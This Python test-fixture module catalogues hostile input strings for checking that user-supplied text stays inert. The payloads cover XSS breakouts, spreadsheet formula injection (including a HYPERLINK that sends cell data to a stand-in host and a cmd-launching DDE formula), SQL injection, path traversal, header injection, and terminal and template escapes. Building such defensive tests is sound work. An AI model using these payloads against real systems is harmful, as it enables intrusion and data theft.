"""What somebody could write into a name, a note or a delivered cell in order to be more than text, or by accident.

Every address in these texts is at HOST and every piece of script sets `window.trapped`, so a test can look for two
things: no request to HOST and no link there, and `window.trapped` undefined. Sums give it away, too: where 7 * 7191
is asked for, PRODUCT must not appear.
"""

import unicodedata
from dataclasses import dataclass

HOST = "trap.example.org"
PRODUCT = "50337"


@dataclass(frozen=True)
class HostileText:
    """One text, and what must never happen to it.

    `kind` is where it does its harm: markdown (CommonMark with tables, strikethrough and bare links), streamlit (what
    Streamlit's Markdown has beyond that), html, script (inside a page's own script, style or JSON), spreadsheet,
    terminal, template (messages and templates that are filled in), chart, query, file_name, direction (reading order
    and invisible characters), layout, null (read as a missing value) or value (read as another value).
    `refusable`: a load may refuse it in one sentence instead, because of its control characters.
    """

    name: str
    kind: str
    text: str
    never: str
    refusable: bool = False

    @property
    def one_line(self) -> bool:
        """Whether it could be a person's display name: one line without control characters, not too long."""
        return len(self.text) <= 200 and not any(
            unicodedata.category(c) in ("Cc", "Zl", "Zp") for c in self.text
        )


def _of(kind: str, never: str, texts: dict[str, str], *, refusable: bool = False) -> list[HostileText]:
    return [HostileText(name, kind, text, never, refusable) for name, text in texts.items()]


NOT_CALCULATED = (
    "Saved as CSV and opened in a spreadsheet it is never calculated and never fills a second cell."
)
NOT_A_CONTROL = "It never styles, moves, clears or renames the terminal, and never stops the command."
STAYS_IN_ITS_FOLDER = "A file named after it stays in its folder, under a name that every system can keep."

TEXTS: tuple[HostileText, ...] = (
    *_of("markdown", "It never becomes an image or a link; the brackets and the address are read as written.", {
        "image": f"![heels](https://{HOST}/seen.png)",
        "image_by_reference": f"![heels][1]\n\n[1]: https://{HOST}/seen.png",
        "link": f"[your results](https://{HOST}/)",
        "link_with_title": f"[results](https://{HOST}/ \"'>\")",
        "script_link": "[results](javascript:window.trapped=1)",
        "script_link_in_disguise": "[results](java&#115;cript:window.trapped=1)",
        "data_link": "[results](data:text/html,<script>window.trapped=1</script>)",
        "link_in_brackets": f"[[results](https://{HOST}/)](https://{HOST}/)",
        "link_in_two_lines": f"[your\nresults](https://{HOST}/)",
        "link_by_reference": f"[results]\n\n[results]: https://{HOST}/",
        "autolink": f"<https://{HOST}/>",
        "autolink_of_mail": f"<coach@{HOST}>",
        "bare_link": f"see https://{HOST}/ first",
        "bare_link_without_scheme": f"see www.{HOST} first",
        "closes_our_own_link": f"Petra](https://{HOST}/)[",
    }),
    *_of("markdown", "It never sets type or layout; every sign of it is read as written.", {
        "heading": "# Heels",
        "heading_underlined": "Heels\n=====",
        "rule": "***",
        "bold": "**heels** and __toes__",
        "emphasis": "*heels* and _toes_",
        "emphasis_inside_a_word": "heel*toe*heel",
        "strikethrough": "~~heels~~",
        "code": "`heels`",
        "code_block": "```\nheels\n```",
        "code_block_indented": "    heels at address",
        "quotation": "> heels",
        "list": "- heels\n- toes",
        "numbered_list": "3. heels\n4. toes",
        "number_and_full_stop": "1986. A great year",
        "plus_list": "+ heels",
        "table": "| heels | toes |\n| --- | --- |\n| 1 | 2 |",
        "backslash": r"heels \* toes \_ end\\",
        "entity": "heels &amp; toes &lt;b&gt; &#60;i&#62; &nbsp;",
        "comment": "heels <!-- toes --> arms",
    }),
    *_of("streamlit", "It never becomes a colour, a badge, an icon, an emoji, a sign or a formula; it is read as written.", {
        "colour": ":red[in danger]",
        "background_colour": ":green-background[all is well]",
        "rainbow": ":rainbow[well done]",
        "badge": ":blue-badge[certified]",
        "small": ":small[read this]",
        "colour_not_closed": ":red[in danger",
        "colours_nested": ":red[:blue[deep]]",
        "icon": ":material/thumb_up:",
        "icon_that_does_not_exist": ":material/no_such_icon:",
        "logo": ":streamlit:",
        "emoji": ":tada: :+1:",
        "emoji_between_times": "from 10:heart:30",
        "formula": "$x^2$",
        "formula_block": "$$\\frac{1}{0}$$",
        "formula_not_closed": "paid $5, then $6",
        "formula_that_links": f"$\\href{{https://{HOST}/}}{{results}}$",
        "formula_that_grows": "$\\def\\a{\\a\\a}\\a$",
        "arrows": "heel -> toe <- heel <-> -- >= <= ~=",
        "footnote": "heels[^1]\n\n[^1]: toes",
        "task_list": "- [x] heels\n- [ ] toes",
        "directive_of_a_block": ":::note\nheels\n:::",
        "mail_address": f"coach@{HOST}",
    }),
    *_of("html", "It never becomes an element or an attribute; the angle brackets and quotes are read as written.", {
        "script": "<script>window.trapped=1</script>",
        "image_with_error": "<img src=x onerror=window.trapped=1>",
        "image_from_elsewhere": f'<img src="https://{HOST}/seen.png">',
        "picture_that_loads": "<svg onload=window.trapped=1>",
        "frame": f'<iframe src="https://{HOST}/"></iframe>',
        "frame_with_its_page": "<iframe srcdoc='<script>parent.trapped=1</script>'></iframe>",
        "style": f"<style>@import url(https://{HOST}/a.css);</style>",
        "refresh": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
        "base": f'<base href="https://{HOST}/">',
        "form": f'<form action="https://{HOST}/"><input name=password></form>',
        "bold_tag": "<b>Petra</b>",
        "tag_not_closed": "<b>Petra",
        "closing_tags": "</p></td></table></div></body>Petra",
        "out_of_a_double_quoted_attribute": '" onmouseover="window.trapped=1',
        "out_of_a_single_quoted_attribute": "' onmouseover='window.trapped=1",
        "out_of_an_attribute_and_its_element": '"><script>window.trapped=1</script>',
        "out_of_a_title": "</title><script>window.trapped=1</script>",
        "out_of_a_comment": "--><script>window.trapped=1</script>",
        "out_of_cdata": "]]><script>window.trapped=1</script>",
        "escaped_before": "&lt;script&gt;window.trapped=1&lt;/script&gt;",
        "wide_angle_brackets": "\uff1cscript\uff1ewindow.trapped=1\uff1c/script\uff1e",
        "less_than": "heels <5 % & toes >8 %",
    }),
    *_of("script", "It never ends the script, style or JSON that carries it, nor runs in it.", {
        "out_of_a_script": "</script><script>window.trapped=1</script>",
        "out_of_a_style": "</style><script>window.trapped=1</script>",
        "comment_that_opens_a_script": "<!--<script>",
        "out_of_a_string": '";window.trapped=1;"',
        "out_of_a_string_by_backslash": '\\";window.trapped=1;//',
        "out_of_a_template_string": "${window.trapped=1}`;window.trapped=1;`",
        "line_separator": "heels\u2028window.trapped=1\u2029",
        "out_of_a_style_value": f"red;background:url(https://{HOST}/)}}",
        "prototype": "__proto__",
    }),
    *_of("spreadsheet", NOT_CALCULATED, {
        "sum": "=7*7191",
        "sum_by_plus": "+7*7191",
        "sum_by_minus": "-7*7191",
        "sum_by_at": "@SUM(7*7191)",
        "link_by_formula": f'=HYPERLINK("https://{HOST}/?"&A1,"results")',
        "fetch_by_formula": f'=WEBSERVICE("https://{HOST}/")',
        "program_by_formula": "=cmd|' /C calc'!A0",
        "formula_after_a_blank": " =7*7191",
        "formula_after_a_hard_blank": "\u00a0=7*7191",
        "formula_after_a_wide_blank": "\u3000=7*7191",
        "formula_after_an_invisible_sign": "\u200b=7*7191",
        "formula_after_a_byte_order_mark": "\ufeff=7*7191",
        "wide_equals": "\uff1d7*7191",
        "wide_plus": "\uff0b7*7191",
        "wide_minus": "\uff0d7*7191",
        "wide_at": "\uff20SUM(7*7191)",
        "small_equals": "\ufe667*7191",
        "minus_sign": "\u22127*7191",
        "formula_after_a_line_break": "\n=7*7191",
        "formula_in_the_second_line": "heels\n=7*7191",
        "out_of_quotes": 'heels","=7*7191',
        "out_of_quotes_by_semicolon": 'heels";"=7*7191',
        "formula_in_quotes": '"=7*7191"',
        "formula_after_a_semicolon": "heels;=7*7191",
        "formula_after_a_comma": "heels,=7*7191",
        "apostrophe_before": "'=7*7191",
        "separator_line": "sep=;",
        "only_an_equals_sign": "=",
    }),
    *_of("spreadsheet", NOT_CALCULATED, {
        "formula_after_a_tab": "\t=7*7191",
        "formula_after_a_carriage_return": "\r=7*7191",
        "formula_after_a_tab_inside": "heels\t=7*7191",
        "formula_after_a_form_feed": "\x0c=7*7191",
    }, refusable=True),
    *_of("value", "It comes back as the text it was, never as a number, a date, a truth value or a shorter text.", {
        "leading_zeros": "007",
        "looks_like_a_date": "1-2",
        "looks_like_an_iso_date": "2026-04-07",
        "looks_like_an_exponent": "1e5",
        "long_number": "12345678901234567890",
        "true": "true",
        "zero": "0",
        "infinity": "inf",
        "blanks_around": "  heels  ",
        "two_blanks_inside": "heels  toes",
        "composed_letter": "Ren\u00e9",
        "decomposed_letter": "Rene\u0301",
        "only_quotes": '""',
        "hash_first": "#heels",
    }),
    *_of("null", "Somebody wrote it: it never counts as missing and never stands for a missing value elsewhere.", {
        "null": "null",
        "null_in_capitals": "NULL",
        "none": "None",
        "nan": "NaN",
        "na": "NA",
        "n_a": "N/A",
        "undefined": "undefined",
        "nothing_in_excel": "#N/A",
        "hyphen": "-",
        "backslash_n": "\\N",
    }),
    *_of("null", "Nothing to see: it never becomes an empty heading, an empty link or a label without a name.", {
        "hard_blank": "\u00a0",
        "wide_blank": "\u3000",
        "invisible_only": "\u200b\u200d\u2060",
        "hangul_filler": "\u3164",
        "braille_blank": "\u2800",
    }),
    *_of("terminal", NOT_A_CONTROL, {
        "rich_style": "[bold red]heels[/bold red]",
        "rich_closing_tag_alone": "heels[/]",
        "rich_closing_tag_of_nothing": "[/red]heels",
        "rich_link": f"[link=https://{HOST}/]results[/link]",
        "rich_emoji": ":warning: heels",
        "rich_backslash": "\\[heels]",
    }),
    *_of("terminal", NOT_A_CONTROL, {
        "escape_that_clears": "\x1b[2Jheels",
        "escape_that_colours": "\x1b[31mheels\x1b[0m",
        "escape_that_links": f"\x1b]8;;https://{HOST}/\x1b\\results\x1b]8;;\x1b\\",
        "escape_that_renames": "\x1b]0;heels\x07",
        "one_sign_escape": "\x9b2Jheels",
        "bell": "heels\x07",
        "backspaces": "refused\x08\x08\x08\x08\x08\x08\x08accepted",
        "carriage_return": "refused\raccepted",
        "nul": "heels\x00toes",
        "delete": "heels\x7f",
    }, refusable=True),
    *_of("template", "It is never filled in or evaluated, and never makes another message fail; it is read as written.", {
        "brace_field": "{name}",
        "brace_field_number": "{0}",
        "brace_field_that_climbs": "{student.__class__.__init__.__globals__}",
        "brace_not_closed": "{heels",
        "brace_alone": "}",
        "braces_doubled": "{{heels}}",
        "percent_s": "%s",
        "percent_name": "%(name)s",
        "percent_width": "%999999999d",
        "percent_alone": "100 %",
        "percent_at_the_end": "50%",
        "jinja_sum": "{{ 7 * 7191 }}",
        "jinja_block": "{% for i in range(9) %}heels{% endfor %}",
        "jinja_comment": "heels{# toes #}",
        "jinja_climbs": "{{ ''.__class__.__mro__ }}",
        "dollar_field": "$name ${name}",
        "plural_forms": "Plural-Forms: nplurals=1; plural=0;",
        "backreference": r"\1 \g<0>",
    }),
    *_of("chart", "As a label, a category or a field it is never evaluated, never splits and never takes another's place.", {
        "vega_datum": "datum.value",
        "vega_expression": "datum['value'] * 7 * 7191",
        "vega_signal": '{"signal": "7 * 7191"}',
        "vega_expr_reference": '{"expr": "width * 7191"}',
        "altair_type": "heels:Q",
        "altair_aggregate": "mean(heels):Q",
        "field_with_a_dot": "heels.toes",
        "field_with_brackets": "heels[0]",
        "field_with_a_quote": "heel's ['toe']",
        "field_with_a_backslash": "heels\\.toes",
        "number_format": ".2f",
        "vega_image_address": f"https://{HOST}/seen.png",
        "label_in_two_lines": "heels\ntoes",
    }),
    *_of("query", "It never ends the query, matches more than itself or reads a file.", {
        "sql_string": "'; DROP TABLE academy.person; --",
        "sql_or": "' OR '1'='1",
        "sql_quoted_name": '"; DROP TABLE academy.person; --',
        "sql_like": "%_%",
        "sql_file": "read_text('/etc/hostname')",
        "sql_parameter": "$1 ? :name",
        "address_query": "s1&student=s2#heels",
        "address_percent": "s1%26student%3Ds2",
        "pattern": "(a+)+$",
        "glob": "*?[a-z]",
    }),
    *_of("file_name", STAYS_IN_ITS_FOLDER, {
        "climbs": "../../outside",
        "climbs_on_windows": "..\\..\\outside",
        "absolute": "/tmp/outside",  # noqa: S108
        "drive": "C:outside",
        "device": "CON",
        "device_with_ending": "aux.csv",
        "dot_first": ".hidden",
        "dot_last": "heels.",
        "option": "--help",
        "reserved_signs": 'heels<>:"|?*toes',
        "wide_slash": "heels\u2215toes\uff0ftoes",
        "ending_turned_round": "heels\u202egnp.exe",
        "address_scheme": f"https://{HOST}/",
    }),
    *_of("file_name", STAYS_IN_ITS_FOLDER, {
        "header_line": "heels\r\nSet-Cookie: trapped=1",
        "nul_in_a_file_name": "heels.csv\x00.html",
    }, refusable=True),
    *_of("direction", "It never turns round, hides or joins what stands beside it; what was written stays what is saved.", {
        "right_to_left_override": "heels\u202eseot",
        "override_not_closed": "\u202e",
        "isolate_not_closed": "\u2067heels",
        "isolate_closed_too_often": "heels\u2069\u2069",
        "right_to_left": "\u05e2\u05e7\u05d1\u05d9\u05dd 12 %",
        "arabic": "\u0643\u0639\u0628 (2)",
        "right_to_left_mark": "\u200fheels - 3",
        "zero_width_inside": "hee\u200bls",
        "zero_width_joiner": "hee\u200dls",
        "byte_order_mark_inside": "hee\ufeffls",
        "soft_hyphen": "hee\u00adls",
        "look_alike": "P\u0435tra",
        "tag_characters": "heels\U000e0068\U000e0069",
        "variation_selector": "heels\ufe0f",
        "private_use": "heels\ue000",
        "not_a_character": "heels\uffff",
        "replacement": "heels\ufffd",
    }),
    *_of("layout", "The page, the paper and the chart stay readable beside it; nothing runs out of its place or over others.", {
        "long_word": "heel" * 500,
        "long_text": "heels and toes " * 700,
        "many_lines": "heels\n" * 1000,
        "many_marks": "h" + "\u0315\u0323\u0334\u0489" * 50 + "eels",
        "wide_letters": "\ufdfd" * 10,
        "wide_script": "\u8db3\u8ddf\u6293\u5730" * 20,
        "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467 " * 20,
        "flags": "\U0001f1ee\U0001f1ea",
        "tall_lines": "\u0e49" * 60,
        "no_break": "heels\u00a0" * 60,
        "one_letter": "h",
        "deep_brackets": "[" * 500,
        "deep_quotation": ">" * 500 + " heels",
        "deep_emphasis": "*_" * 500 + "heels",
    }),
)  # fmt: skip
BY_NAME = {hostile.name: hostile for hostile in TEXTS}


def of_kind(*kinds: str) -> list[HostileText]:
    return [hostile for hostile in TEXTS if hostile.kind in kinds]
